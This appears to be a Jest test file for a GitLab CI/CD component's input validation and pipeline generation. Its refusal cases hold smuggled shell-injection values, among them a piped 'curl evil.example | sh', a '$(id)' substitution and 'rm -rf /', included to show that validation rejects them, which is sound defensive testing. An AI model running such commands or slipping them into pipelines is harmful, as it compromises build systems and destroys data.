/**
 * The CI/CD component (templates/runner-fleet.yml): where GitLab's catalog looks for it, its
 * `spec:inputs` (every input described and defaulted, values checked as GitLab checks them), and
 * the pipeline it makes. Inputs are validated and interpolated by lib/ci/gitlab-ci/inputs.ts, a
 * stand-in written from GitLab's documentation and source (cited there), itself tested below on the
 * documentation's own examples.
 */
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import Ajv from "ajv";
import { parse as parseYaml } from "yaml";
import { DEFAULT_CI_IMAGE, renderChildPipeline } from "../../lib/ci/child-pipeline";
import { resolvePipelineText } from "../../lib/ci/gitlab-ci/include";
import { InputsError, interpolate, loadConfigFile, resolveInputs, type InputSpec, type InputSpecs } from "../../lib/ci/gitlab-ci/inputs";

const ROOT = join(__dirname, "..", "..");
const COMPONENT = "templates/runner-fleet.yml";
const componentText = readFileSync(join(ROOT, COMPONENT), "utf8");
const component = loadConfigFile(componentText, COMPONENT);
const specs = component.inputs as InputSpecs;

/** The configuration a project gets from `include: local: templates/runner-fleet.yml` with these inputs. */
function including(inputs: Record<string, unknown>): Record<string, unknown> {
  const lines = Object.entries(inputs).map(([name, value]) => `      ${name}: ${JSON.stringify(value)}`);
  return resolvePipelineText(ROOT, ["include:", `  - local: ${COMPONENT}`, ...(lines.length > 0 ? ["    inputs:", ...lines] : [])].join("\n"));
}

/** GitLab's messages for a refused set of inputs (the pipeline is not created). */
function refusal(inputs: Record<string, unknown>): readonly string[] {
  try {
    including(inputs);
  } catch (error) {
    if (error instanceof InputsError) return error.errors;
    throw error;
  }
  throw new Error(`inputs ${JSON.stringify(inputs)} were accepted`);
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [path];
  });
}

describe("the component's place in the repository", () => {
  // GitLab's catalog takes as components exactly the files matching this (app/models/ci/catalog/components_project.rb,
  // TEMPLATE_PATH_REGEX; doc/ci/components "Directory structure": templates/<name>.yml or templates/<name>/template.yml).
  // Other files under templates/ (the handlebars templates, templates/ci/) are neither components nor refused.
  const CATALOG_COMPONENT_PATH = /^templates\/[\w-]+(?:\/template)?\.yml$/;

  it("is the one file under templates/ that GitLab's catalog takes as a component", () => {
    const files = filesUnder(join(ROOT, "templates")).map((file) => relative(ROOT, file).split("\\").join("/"));
    expect(files.filter((file) => CATALOG_COMPONENT_PATH.test(file))).toEqual([COMPONENT]);
    // The check does see the other templates (it is not vacuous).
    expect(files).toEqual(expect.arrayContaining(["templates/config.toml.hbs", "templates/ci/cells.gitlab-ci.yml.hbs", "templates/ci/trigger-runner-fleet.yml"]));
  });

  it("is what this repository's .gitlab-ci.yml includes, from the local tree, with its own releases after it", () => {
    const root = loadConfigFile(readFileSync(join(ROOT, ".gitlab-ci.yml"), "utf8"), ".gitlab-ci.yml").content;
    expect(root.include).toEqual([
      { local: COMPONENT, inputs: { toolkit_command: "./bin/runner-fleet.js", toolkit_dir: "." } },
      // Jobs for version tags only (test/ci/release-pipeline.test.ts: no other pipeline gets them).
      { local: "ci/release/release.gitlab-ci.yml" },
    ]);
    // Nothing but the includes: what runs here is what teams get.
    expect(Object.keys(root)).toEqual(["include"]);
  });
});

describe("the component's inputs", () => {
  const schema = JSON.parse(readFileSync(join(ROOT, "test", "fixtures", "gitlab-ci.schema.json"), "utf8")) as Record<string, unknown>;
  const validate = new Ajv({ strict: false, allErrors: true, logger: false }).compile(schema);

  it("declares the inputs the issue asks for, and no others unexplained", () => {
    expect(Object.keys(specs).sort()).toEqual(
      [
        "engine",
        "engine_version",
        "engine_sha256",
        "toolkit_version",
        "toolkit_command",
        "toolkit_dir",
        "apply_mode",
        "models_dir",
        "lock_timeout",
        "image",
        "prepare_stage",
        "review_stage",
        "cells_stage",
        "provision_stage",
        // Where a trigger may send secrets: inputs, which a trigger's variables cannot replace.
        "gitlab_token_env",
        "trigger_gitlab_urls",
      ].sort(),
    );
  });

  it.each(Object.keys(specs))("%s has a description and a default (so a merge request pipeline never lacks it)", (name) => {
    const spec = specs[name] as InputSpec;
    expect(spec.description).toEqual(expect.any(String));
    expect((spec.description as string).length).toBeGreaterThan(20);
    expect(spec).toHaveProperty("default");
  });

  it("has a header GitLab's CI schema accepts (spec:inputs keys and types)", () => {
    const header = loadConfigFile(componentText, COMPONENT);
    expect(validate({ spec: { inputs: header.inputs } })).toBe(true);
    // Each input names its type: the schema's type-dependent checks of `default` (if/then without
    // `required: [type]`) otherwise all apply at once and no default passes.
    for (const spec of Object.values(specs)) expect(spec?.type).toBe("string");
    // The schema does refuse an input key GitLab does not know.
    expect(validate({ spec: { inputs: { engine: { default: "terraform", choices: ["terraform"] } } } })).toBe(false);
  });

  it("constrains every input that reaches a shell line with options or a regex", () => {
    const unconstrained = Object.entries(specs).filter(([, spec]) => spec?.options === undefined && spec?.regex === undefined);
    expect(unconstrained.map(([name]) => name)).toEqual([]);
  });

  it("takes its defaults when included without inputs: the pipeline a models repository gets", () => {
    const config = including({});
    expect(config.stages).toEqual(["prepare", "review", "cells", "provision"]);
    expect(config.variables).toMatchObject({ RUNNER_ENGINE: "terraform", RUNNER_ENGINE_VERSION: "", RUNNER_MODELS_DIR: "models", RUNNER_LOCK_TIMEOUT: "5m", APPLY_MODE: { value: "auto" } });
    const base = config[".runner-fleet-job"] as { image: string; before_script: string[] };
    expect(base.image).toBe(DEFAULT_CI_IMAGE);
    expect(base.before_script).toEqual([
      "npm ci --prefer-offline --no-audit --no-fund",
      // Does nothing for the installed package; builds the toolkit's own checkout (test/ci/build-checkout.test.ts).
      'sh "node_modules/runner-fleet/ci/build-checkout.sh"',
      'sh "node_modules/runner-fleet/ci/check-toolkit-version.sh" "lockfile"',
    ]);
    expect((config.prepare as { script: string[] }).script).toEqual(["npx --no-install runner-fleet prepare --require-engine"]);
  });

  it("runs its jobs and the child pipelines' jobs on an image pinned by digest when the image input names one", () => {
    const pinned = `node:24-bookworm@sha256:${"0123456789abcdef".repeat(4)}`;
    const config = including({ image: pinned });
    expect((config[".runner-fleet-job"] as { image: string }).image).toBe(pinned);
    // The review hands the input to the child pipelines it writes (--image), which use it as given.
    const child = parseYaml(renderChildPipeline({ mode: "apply", cells: ["cell-1", "cell-2"], base: "main", image: pinned })) as Record<string, unknown>;
    const images = Object.values(child).flatMap((job) => (typeof job === "object" && job !== null && "image" in job ? [(job as { image: unknown }).image] : []));
    expect(images.length).toBeGreaterThan(0);
    for (const image of images) expect(image).toBe(pinned);
  });

  it("documents, in engine_version's description, the versions ci/install-engine.sh pins when it is empty", () => {
    const script = readFileSync(join(ROOT, "ci", "install-engine.sh"), "utf8");
    const pinned = (name: string) => new RegExp(`${name}="([^"]+)"`).exec(script)?.[1];
    expect(specs.engine_version?.description).toContain(`terraform ${pinned("TERRAFORM_DEFAULT_VERSION")}`);
    expect(specs.engine_version?.description).toContain(`tofu ${pinned("TOFU_DEFAULT_VERSION")}`);
  });

  it.each([
    [{ engine: "pulumi" }, "`engine` input: `pulumi` cannot be used because it is not in the list of allowed options"],
    [{ apply_mode: "sometimes" }, "`apply_mode` input: `sometimes` cannot be used because it is not in the list of allowed options"],
    [{ engine: true }, "`engine` input: provided value is not a string"],
    [{ engine_version: "v1.11.4" }, "`engine_version` input: provided value does not match required RegEx pattern"],
    [{ engine_version: "latest" }, "`engine_version` input: provided value does not match required RegEx pattern"],
    [{ engine_sha256: "abc" }, "`engine_sha256` input: provided value does not match required RegEx pattern"],
    [{ toolkit_version: "^1.2.0" }, "`toolkit_version` input: provided value does not match required RegEx pattern"],
    [{ toolkit_command: "npx runner-fleet; curl evil.example | sh" }, "`toolkit_command` input: provided value does not match required RegEx pattern"],
    [{ toolkit_command: 'npx "$(id)"' }, "`toolkit_command` input: provided value does not match required RegEx pattern"],
    [{ toolkit_dir: "node_modules/runner fleet" }, "`toolkit_dir` input: provided value does not match required RegEx pattern"],
    [{ models_dir: "/etc" }, "`models_dir` input: provided value does not match required RegEx pattern"],
    [{ lock_timeout: "5 minutes" }, "`lock_timeout` input: provided value does not match required RegEx pattern"],
    [{ image: "node:24; rm -rf /" }, "`image` input: provided value does not match required RegEx pattern"],
    // A digest is the whole sha256 (64 hex digits): a cut or made-up one would be a pull error in every job.
    [{ image: "node:24-bookworm@sha256:0123" }, "`image` input: provided value does not match required RegEx pattern"],
    [{ image: "node:24-bookworm@latest" }, "`image` input: provided value does not match required RegEx pattern"],
    [{ review_stage: "review$X" }, "`review_stage` input: provided value does not match required RegEx pattern"],
    [{ egnine: "tofu" }, "unknown input arguments: egnine"],
  ])("refuses %j", (inputs, message) => {
    expect(refusal(inputs)).toEqual([message]);
  });

  it.each([
    [{ engine: "tofu", engine_version: "1.9.1" }],
    [{ engine_sha256: "a".repeat(64) }],
    [{ toolkit_version: "1.2.0" }],
    [{ toolkit_version: "2.0.0-rc.1" }],
    [{ lock_timeout: "1h30m" }],
    [{ lock_timeout: "90s" }],
    [{ models_dir: "infra/runner-models" }],
    [{ toolkit_command: "./bin/runner-fleet.js", toolkit_dir: "." }],
    [{ image: `registry.example.com/ci/node:22-bookworm@sha256:${"0123456789abcdef".repeat(4)}` }],
  ])("accepts %j", (inputs) => {
    expect(() => including(inputs)).not.toThrow();
  });
});

describe("the inputs stand-in, on GitLab's documented examples (doc/ci/inputs/_index.md)", () => {
  const documented = loadConfigFile(
    [
      "spec:",
      "  inputs:",
      "    job-prefix:",
      '      description: "Define a prefix for the job name"',
      "    job-stage:",
      "      default: test",
      "    environment:",
      "      options: ['test', 'staging', 'production']",
      "    concurrency:",
      "      type: number",
      "      default: 1",
      "    version:",
      "      type: string",
      "      regex: ^v\\d\\.\\d+(\\.\\d+)$",
      "    export_results:",
      "      type: boolean",
      "      default: true",
      "---",
      '"$[[ inputs.job-prefix ]]-scan-website":',
      "  stage: $[[ inputs.job-stage ]]",
      "  parallel: $[[ inputs.concurrency ]]",
      "  allow_failure: $[[ inputs.export_results ]]",
      "  script:",
      '    - echo "scanning website -e $[[ inputs.environment ]] -c $[[ inputs.concurrency ]] -v $[[ inputs.version ]]"',
    ].join("\n"),
    "scan-website-job.yml",
  );
  const inputs = documented.inputs as InputSpecs;

  it("the include example: given values, defaults, a number and a boolean keep their type as whole values, and become text inside a string", () => {
    const values = resolveInputs(inputs, { "job-prefix": "some-service-", environment: "staging", concurrency: 2, version: "v1.3.2", export_results: false });
    expect(interpolate(documented.content, values)).toEqual({
      "some-service--scan-website": {
        stage: "test",
        parallel: 2,
        allow_failure: false,
        script: ['echo "scanning website -e staging -c 2 -v v1.3.2"'],
      },
    });
  });

  it("a missing required input, an option not listed, a type mismatch and a regex mismatch are each refused with GitLab's message", () => {
    expect(() => resolveInputs(inputs, { environment: "qa", concurrency: "2", version: "1.3.2" })).toThrow(InputsError);
    try {
      resolveInputs(inputs, { environment: "qa", concurrency: "2", version: "1.3.2" });
    } catch (error) {
      expect((error as InputsError).errors).toEqual([
        "`job-prefix` input: required value has not been provided",
        "`environment` input: `qa` cannot be used because it is not in the list of allowed options",
        "`concurrency` input: provided value is not a number",
        "`version` input: provided value does not match required RegEx pattern",
      ]);
    }
  });

  it("a bad default is refused even when a good value is given, and an unknown interpolation key is an error", () => {
    expect(() => resolveInputs({ stage: { default: 3 as unknown as string } }, { stage: "build" })).toThrow("`stage` input: default value is not a string");
    expect(() => interpolate({ job: { stage: "$[[ inputs.stgae ]]" } }, { stage: "build" })).toThrow("unknown interpolation key: `stgae`");
  });
});

describe("docs/guide/pipeline.md's component section", () => {
  const readme = readFileSync(join(ROOT, "docs", "guide", "pipeline.md"), "utf8");
  const start = readme.indexOf("# The pipeline as a CI/CD component");
  const section = readme.slice(start, readme.indexOf("\n## ", start + 5));

  it("lists every input with its default", () => {
    expect(start).toBeGreaterThanOrEqual(0);
    const rows = section.split("\n").filter((line) => line.startsWith("| `"));
    for (const [name, spec] of Object.entries(specs)) {
      const row = rows.find((line) => line.split("|")[1]?.includes(`\`${name}\``));
      expect(row).toBeDefined();
      const defaults = (row as string).split("|")[2] as string;
      expect(defaults).toContain(spec?.default === "" ? '`""`' : String(spec?.default));
    }
  });

  it("shows an include that GitLab accepts with these inputs", () => {
    const snippet = /```yaml\n(include:\n  - component: [\s\S]*?)```/.exec(section)?.[1] as string;
    const inputs = loadConfigFile(snippet, "docs/guide/pipeline.md").content.include as { inputs: Record<string, unknown> }[];
    expect(() => resolveInputs(specs, inputs[0]?.inputs)).not.toThrow();
  });
});
